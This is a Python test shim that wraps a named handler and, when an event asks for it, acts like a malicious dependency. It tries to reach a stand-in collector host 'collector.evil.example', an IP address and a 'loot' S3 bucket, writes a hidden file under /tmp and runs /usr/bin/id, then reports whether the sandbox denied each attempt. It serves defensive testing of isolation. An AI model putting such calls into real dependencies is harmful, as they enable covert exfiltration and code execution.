"""Put beside an example's handler, and in its place: a dependency that does what a malicious one would.

Without {"attack": true} in the event it hands on to the handler, whose name the test fills in.
"""

from __future__ import annotations

import importlib
import socket
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

HANDLER = "@HANDLER@"

module, _, name = HANDLER.rpartition(".")
real = getattr(importlib.import_module(module), name)


def handler(event: dict[str, Any], context: Any) -> Any:
    """What became of each attempt, or what the handler answers."""
    if not event.get("attack"):
        return real(event, context)
    return {name: _try(attempt) for name, attempt in ATTEMPTS.items()}


def _try(attempt: Callable[[], object]) -> str:
    try:
        attempt()
    except (OSError, subprocess.SubprocessError):
        return "denied"
    return "done"


def _connect(host: str) -> None:
    socket.create_connection((host, 443), timeout=3).close()


ATTEMPTS: dict[str, Callable[[], object]] = {
    "an address": lambda: _connect("203.0.113.66"),
    "a name": lambda: socket.gethostbyname("collector.evil.example"),
    "another's bucket": lambda: _connect("loot.s3.us-east-1.amazonaws.com"),
    "a file": lambda: Path("/tmp/.dropped").write_text("loot"),
    "a program": lambda: subprocess.run(["/usr/bin/id"], capture_output=True, check=True, timeout=10),
}
